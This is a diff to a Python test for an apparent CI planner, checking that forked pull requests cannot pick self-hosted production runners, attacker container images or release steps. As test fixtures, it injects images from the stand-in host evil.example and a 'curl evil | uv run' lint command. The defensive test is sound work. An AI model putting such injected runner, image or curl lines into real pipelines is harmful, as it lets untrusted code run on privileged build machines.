@@ -116,13 +116,14 @@ def test_make_default_branch_is_a_name_and_not_a_pattern() -> None:
 
 
 def test_make_fork_takes_runners_containers_and_release_from_the_base() -> None:
-    hostile = SHOP.replace("directory: apps/api", "directory: apps/api\n    runs-on: [self-hosted, production]").replace(
+    steering = "\n    container: evil.example/c\n    runs-on: [self-hosted, production]"
+    hostile = SHOP.replace("directory: apps/api", f"directory: apps/api{steering}").replace(
         "postgres:17", "evil.example/postgres:17"
     ).replace("lint: uv run", "lint: curl evil | uv run".replace(" | ", " "))  # fmt: skip
     hostile = hostile.replace("version: 1", "version: 1\nruns-on: self-hosted")
     found = plan(hostile, PULL, trusted=SHOP, fork=True)
     assert {settings["runs-on"] for settings in found.jobs.values()} == {"ubuntu-latest"}
-    assert "evil.example" not in json.dumps([settings["services"] for settings in found.jobs.values()])
+    assert "evil.example" not in json.dumps([(each["services"], each["container"]) for each in found.jobs.values()])
     assert found.jobs["api"]["services"]["postgres"]["image"] == "postgres:17"
     assert not found.release
     assert not found.build
